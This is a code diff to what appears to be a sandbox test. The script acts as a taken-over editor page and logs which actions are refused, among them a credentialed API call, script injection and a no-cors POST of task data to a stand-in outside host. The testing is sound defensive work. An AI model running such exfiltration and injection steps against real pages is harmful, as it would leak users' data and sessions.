@@ -1,5 +1,7 @@
 // In the place of the editor's page: whatever somebody could try who had taken it over.
 
+const SERVER = new URL(document.currentScript.src).origin;
+
 addEventListener("message", async ({ ports: [port] }) => {
   const tried = {};
   const attempt = async (name, act) => { try { tried[name] = String(await act()); } catch (error) { tried[name] = "refused"; } };
@@ -7,6 +9,13 @@ addEventListener("message", async ({ ports: [port] }) => {
   await attempt("storage", () => localStorage.length);
   await attempt("database", () => indexedDB.open("annolog-work"));
   await attempt("api", async () => (await fetch("/v1/me", { credentials: "include" })).status);
+  await attempt("script", () => new Promise((loaded, fails) => {
+    // One that says itself that it may be loaded from anywhere, by another name.
+    const more = document.createElement("script");
+    Object.assign(more, { src: `${SERVER}/label-studio-editor/other.js`, onload: loaded, onerror: fails });
+    document.head.append(more);
+  }));
+  await attempt("elsewhere", () => fetch("https://pictures.example/carried-off", { method: "POST", mode: "no-cors", body: "the task" }));
   await attempt("page", () => parent.document.title);
   await attempt("away", () => { top.location = "/projects"; });
   await attempt("code", () => new Function("return 1")());
